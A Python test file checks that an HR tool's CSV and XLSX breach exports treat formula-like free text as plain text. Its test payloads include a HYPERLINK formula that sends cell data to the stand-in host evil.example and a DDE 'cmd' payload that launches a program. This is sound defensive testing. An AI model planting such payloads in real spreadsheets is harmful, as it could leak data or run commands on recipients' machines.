"""Exports HR opens in a spreadsheet: free text never becomes a live formula (CSV and XLSX)."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from openpyxl import load_workbook

from tanggap import commands as c
from tanggap.bootstrap import Tanggap
from tanggap.clock import FrozenClock
from tanggap.payroll.service import inert_text
from tanggap.wita import in_wita
from tests.web.staff_helpers import response_breach, sign_in

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("reason", PAYLOADS)
def test_a_waiver_reason_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(
    web: Flask, app: Tanggap, clock: FrozenClock, reason: str
) -> None:
    breach = response_breach(app, clock)
    app.handle(c.WaiveBreach(breach.id, "supervisor", reason))
    client = web.test_client()
    sign_in(client, "hr")
    month = in_wita(breach.due_at).strftime("%Y-%m")
    text = client.get(f"/hr/breaches.csv?month={month}").data.decode("utf-8-sig")
    line = next(r for r in csv.reader(io.StringIO(text)) if r[0] == str(breach.id))
    assert line[11] == "'" + reason  # the spreadsheet shows the text, the quote marks it as text
    sheet = load_workbook(io.BytesIO(client.get(f"/hr/breaches.xlsx?month={month}").data)).active
    assert sheet is not None
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == breach.id)
    assert row[11].value == reason and row[11].data_type == "s"


def test_a_leading_tab_or_carriage_return_is_neutralised_too_and_plain_text_is_left_alone() -> None:
    # Waiver reasons are stripped when recorded; other free text may still start with them.
    assert inert_text("\t=1+1") == "'\t=1+1" and inert_text("\r=1+1") == "'\r=1+1"
    assert inert_text("Banjir besar") == "Banjir besar" and inert_text(12.5) == 12.5
